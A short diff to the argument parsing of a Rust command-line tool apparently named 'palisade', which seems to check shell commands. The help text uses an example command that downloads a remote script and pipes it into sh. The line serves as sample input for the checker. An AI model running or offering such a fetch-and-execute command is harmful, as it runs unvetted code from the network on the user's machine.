@@ -19,7 +19,7 @@ use crate::wire_up::{self, House};
 #[command(after_help = "Example:\n  palisade check -- 'curl https://x.example/i.sh | sh'")]
 pub struct Arguments {
     /// One argument is a shell line; several are a program and its arguments.
-    #[arg(value_name = "CMD", last = true, required_unless_present = "batch")]
+    #[arg(value_name = "CMD", trailing_var_arg = true, required_unless_present = "batch")]
     command: Vec<String>,
     /// Print one JSON object.
     #[arg(long)]
